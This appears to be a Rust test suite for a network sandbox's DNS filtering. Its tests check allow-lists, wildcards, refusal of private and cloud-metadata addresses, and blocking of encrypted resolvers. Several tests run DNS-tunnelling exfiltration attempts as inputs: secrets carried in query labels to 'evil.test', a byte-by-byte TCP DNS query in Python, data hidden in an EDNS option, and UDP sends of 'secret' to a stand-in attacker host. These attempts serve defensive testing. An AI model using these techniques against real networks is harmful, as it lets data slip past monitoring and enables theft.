//! Names: who may be asked, what is asked upstream, and what comes back.

use std::net::{IpAddr, Ipv6Addr};
use std::time::Duration;

use crate::jail::Jail;
use crate::suite::{Mode, Suite, both};
use crate::world::{Behaviour, Transport, World};

const AT_ONCE: Duration = Duration::from_secs(1);
const RECORD_TYPES: [&str; 6] = ["A", "AAAA", "TXT", "NULL", "MX", "TYPE65400"];

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        allowed_name_resolves,
        denied_name_fails_at_once,
        resolver_and_name_must_both_be_allowed,
        resolver_and_name_must_both_be_allowed_over_tcp,
        labels_carry_nothing_out,
        bytewise_tcp_carries_nothing_out,
        odd_questions_stay_inside,
        case_and_final_dot_do_not_matter,
        wildcards_count_labels,
        private_addresses_are_refused,
        private_address_by_policy,
        alias_works_but_its_target_stays_denied,
        ech_keys_are_stripped,
        truncated_answers_are_asked_again,
        dead_resolver_fails_the_job_not_the_jail,
        encrypted_resolvers_are_denied,
        moved_name_is_followed,
        asides_are_no_denials,
    );
}

/// What libc, Java and apt ask beside what is meant: nobody is asked, and the run has not failed.
fn asides_are_no_denials(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let script = "\
dig +short SRV _http._tcp.good.test
for kind in A AAAA; do dig +short \"$(hostname)\" $kind; done
dig +short -x 203.0.113.200
curl -sS --max-time 9 https://good.test/";
    let jail =
        Jail::new(&world, mode).allow("good.test").allow("203.0.113.200:22").option("--fail-on-blocked");
    let outcome = jail.shell(script);
    outcome.assert_success();
    assert!(outcome.denied().is_empty(), "{outcome}");
    for asked in [&b"_http"[..], b"in-addr"] {
        assert!(!world.wire().saw_bytes_of_any_case(asked));
    }
    for asked in ["SRV _secret._tcp.good.test", "-x 203.0.113.201"] {
        jail.shell(&format!("dig +short {asked}")).assert_code(122);
    }
    assert!(!world.wire().saw_bytes_of_any_case(b"_secret"));
}

fn allowed_name_resolves(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let outcome = Jail::new(&world, mode).allow("good.test").run(["getent", "ahosts", "good.test"]);
    outcome.assert_success().assert_says(&site.v4.to_string()).assert_says(&site.v6.to_string());
    outcome.assert_allowed("dns", "good.test");
    world.assert_attacker_saw_nothing();
}

fn denied_name_fails_at_once(mode: Mode) {
    let world = World::new();
    let jail = Jail::new(&world, mode).allow("good.test");
    let outcome = jail.run(["getent", "hosts", "secret.evil.test"]);
    outcome.assert_code(2).assert_faster_than(AT_ONCE).assert_denied(
        "dns",
        "secret.evil.test",
        "not-allowed",
    );
    let explained = jail.run(["dig", "secret.evil.test"]);
    explained.assert_says("status: NXDOMAIN").assert_says("EDE: 17 (Filtered)");
    assert!(world.dns().asked().is_empty(), "{:?}", world.dns().asked());
    assert!(!world.wire().saw_bytes(b"secret"));
}

fn resolver_and_name_must_both_be_allowed(mode: Mode) {
    resolver_and_name(mode, &["dig", "good.test", "@203.0.113.53"]);
}

fn resolver_and_name_must_both_be_allowed_over_tcp(mode: Mode) {
    resolver_and_name(mode, &["dig", "+tcp", "good.test", "@203.0.113.53"]);
}

fn resolver_and_name(mode: Mode, dig: &[&str]) {
    let world = World::new();
    let site = world.site("good.test");
    let jail = Jail::new(&world, mode);
    jail.run(dig).assert_says("status: REFUSED").assert_denied("dns", "good.test", "dns-server-not-allowed");
    let with_server = jail.allow("203.0.113.53:53");
    with_server.run(dig).assert_says("status: NXDOMAIN").assert_denied("dns", "good.test", "not-allowed");
    assert!(world.dns().asked().is_empty(), "{:?}", world.dns().asked());
    let with_both = with_server.allow("good.test");
    with_both.run(dig).assert_says("status: NOERROR").assert_says(&site.v4.to_string());
}

fn labels_carry_nothing_out(mode: Mode) {
    let world = World::new();
    let script: String = RECORD_TYPES
        .iter()
        .flat_map(|kind| {
            ["@203.0.113.53", "@198.51.100.53", ""].map(|server| {
                format!("dig +time=1 +tries=1 {kind} secret-in-a-label.evil.test {server}; dig +tcp +time=1 +tries=1 {kind} secret-in-a-label.evil.test {server};\n")
            })
        })
        .collect();
    let jail = Jail::new(&world, mode).allow("good.test").allow("203.0.113.53:53");
    jail.shell(&script);
    assert!(!world.wire().saw_bytes(b"secret-in-a-label"));
    world.dns().assert_never_asked("secret");
    world.assert_attacker_saw_nothing();

    Jail::direct(&world, mode).run(["dig", "secret-in-a-label.evil.test"]);
    assert!(world.wire().saw_bytes(b"secret-in-a-label"), "without a jail it gets out");
}

fn bytewise_tcp_carries_nothing_out(mode: Mode) {
    let world = World::new();
    let script = r#"
import socket, struct
name = b"".join(bytes([len(l)]) + l for l in b"secret-label.evil.test".split(b".")) + b"\0"
message = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
connection = socket.create_connection(("203.0.113.53", 53), 3)
connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for byte in struct.pack(">H", len(message)) + message:
    connection.send(bytes([byte]))
answer = connection.recv(2000)
print("code", answer[5] & 15)
"#;
    let outcome = Jail::new(&world, mode).allow("203.0.113.53:53").python(script);
    outcome.assert_success().assert_stdout("code 3\n");
    assert!(world.dns().asked().is_empty());
    let direct = Jail::direct(&world, mode).python(script);
    direct.assert_success().assert_stdout("code 0\n");
}

fn odd_questions_stay_inside(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test").allow("203.0.113.53:53");
    let outcome = jail.shell(
        "dig +time=1 +tries=1 CH TXT good.test @203.0.113.53
         dig +time=1 +tries=1 AXFR good.test @203.0.113.53
         dig +time=1 +tries=1 ANY good.test @203.0.113.53
         dig +time=1 +tries=1 +ednsopt=65001:5365637265746f7074696f6e good.test @203.0.113.53
         dig +time=1 +tries=1 +subnet=198.51.100.0/24 good.test @203.0.113.53
         true",
    );
    outcome.assert_success();
    assert!(!world.wire().saw_bytes(b"Secretoption"), "an option of the job's went upstream");
    for asked in world.dns().asked() {
        assert_eq!(asked.question.class, 1, "{asked:?}");
        assert!([1, 28, 65].contains(&asked.question.record_type), "{asked:?}");
    }
}

fn case_and_final_dot_do_not_matter(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let jail = Jail::new(&world, mode).allow("Good.Test");
    for name in ["GOOD.TEST", "good.test."] {
        jail.run(["getent", "hosts", name]).assert_success();
    }
    jail.run(["getent", "hosts", "good.test.evil.test"]).assert_code(2);
    jail.run(["getent", "hosts", "evilgood.test"]).assert_code(2);
    world.assert_attacker_saw_nothing();
}

fn wildcards_count_labels(mode: Mode) {
    let world = World::new();
    for name in [
        "one.star.test",
        "two.one.star.test",
        "star.test",
        "one.stars.test",
        "two.one.stars.test",
        "stars.test",
    ] {
        world.zone().address(name, [203, 0, 113, 9]);
    }
    let jail = Jail::new(&world, mode).allow("*.star.test").allow("**.stars.test");
    for name in ["one.star.test", "one.stars.test", "two.one.stars.test"] {
        jail.run(["getent", "hosts", name]).assert_success();
    }
    for name in ["star.test", "two.one.star.test", "stars.test"] {
        jail.run(["getent", "hosts", name]).assert_code(2);
        assert!(!world.dns().was_asked_for(name));
    }
}

fn private_addresses_are_refused(mode: Mode) {
    let world = World::new();
    let addresses = [
        "127.0.0.1",
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "100.100.100.200",
        "224.0.0.1",
        "0.0.0.0",
        "::1",
        "fe80::1",
        "fd00:ec2::254",
        "::ffff:10.0.0.1",
        "64:ff9b::a9fe:a9fe",
    ];
    for (number, address) in addresses.iter().enumerate() {
        world.zone().address(&format!("n{number}.rebound.test"), address.parse::<IpAddr>().unwrap());
    }
    let jail = Jail::new(&world, mode).allow("*.rebound.test");
    for (number, address) in addresses.iter().enumerate() {
        let name = format!("n{number}.rebound.test");
        let kind = if address.parse::<Ipv6Addr>().is_ok() { "AAAA" } else { "A" };
        let outcome = jail.run(["dig", "+short", kind, &name]);
        assert_eq!(outcome.stdout.trim(), "", "{address} was let in: {outcome}");
        outcome.assert_denied("dns", &name, "private-address");
    }
}

fn private_address_by_policy(mode: Mode) {
    let world = World::new();
    world.zone().address("inner.test", [10, 1, 2, 3]);
    let refused = Jail::new(&world, mode).allow("inner.test").run(["dig", "inner.test"]);
    refused.assert_denied("dns", "inner.test", "private-address").assert_says("allow-private = true");
    let policy = "[[rule]]\nhost = \"inner.test\"\nallow-private = true\n";
    let outcome = Jail::new(&world, mode).policy(policy).run(["dig", "+short", "inner.test"]);
    outcome.assert_success().assert_stdout("10.1.2.3\n");
}

fn alias_works_but_its_target_stays_denied(mode: Mode) {
    let world = World::new();
    let cdn = world.site("edge.cdn.test");
    world.zone().cname("alias.test", "edge.cdn.test");
    let jail = Jail::new(&world, mode).allow("alias.test");
    jail.run(["curl", "-sS", "http://alias.test/"])
        .assert_success()
        .assert_stdout("hello from edge.cdn.test\n");
    jail.run(["curl", "-sS", "http://edge.cdn.test/"]).assert_code(6);
    assert_eq!(cdn.requests().len(), 1);
}

fn ech_keys_are_stripped(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    world.zone().https_with_ech("good.test", b"a key of the server");
    let outcome = Jail::new(&world, mode).allow("good.test").run(["dig", "+short", "TYPE65", "good.test"]);
    // As presentation format or, in an older dig, as hexadecimal digits of RFC 3597.
    outcome.assert_success().assert_says_one_of(&["alpn", "687474702F312E31"]);
    assert!(!outcome.says("ech=") && !outcome.says("61206B6579"), "{outcome}");
}

fn truncated_answers_are_asked_again(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    world.dns().set(Behaviour::Truncating);
    let outcome = Jail::new(&world, mode).allow("good.test").run(["getent", "ahostsv4", "good.test"]);
    outcome.assert_success().assert_says(&site.v4.to_string());
    assert!(world.dns().asked().iter().any(|asked| asked.transport == Transport::Tcp));
}

fn dead_resolver_fails_the_job_not_the_jail(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test").within(Duration::from_secs(40));
    for behaviour in [Behaviour::Failing, Behaviour::Dead] {
        world.dns().set(behaviour);
        jail.run(["getent", "hosts", "good.test"]).assert_code(2);
    }
    world.dns().set(Behaviour::Slow(Duration::from_millis(500)));
    jail.run(["getent", "hosts", "good.test"]).assert_success();
}

fn encrypted_resolvers_are_denied(mode: Mode) {
    let world = World::new();
    let jail = Jail::new(&world, mode).allow("good.test");
    for port in [443, 853] {
        let outcome = jail.run(["curl", "-sS", "-k", &format!("https://198.51.100.1:{port}/dns-query")]);
        outcome.assert_failure().assert_faster_than(AT_ONCE);
        assert!(!outcome.denied().is_empty(), "{outcome}");
    }
    jail.python(
        "import socket\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         for port in (853, 5353, 5355):\n    s.sendto(b'secret', ('198.51.100.1', port))\n",
    );
    world.assert_attacker_saw_nothing();
}

/// The gateway goes where the name points when it connects, never where the job says.
fn moved_name_is_followed(mode: Mode) {
    let world = World::new();
    let (old, new) = (world.site("good.test"), world.site_without_name("good.test", false));
    let jail = Jail::new(&world, mode).allow("good.test");
    let mut running =
        jail.start(["bash", "-c", "curl -sS http://good.test/; read; curl -sS http://good.test/"]);
    running.wait_for("hello from good.test");
    world.zone().move_to("good.test", new.v4);
    running.type_in(b"\n");
    running.finish().assert_success();
    assert_eq!(old.requests().len() + new.requests().len(), 2);
}
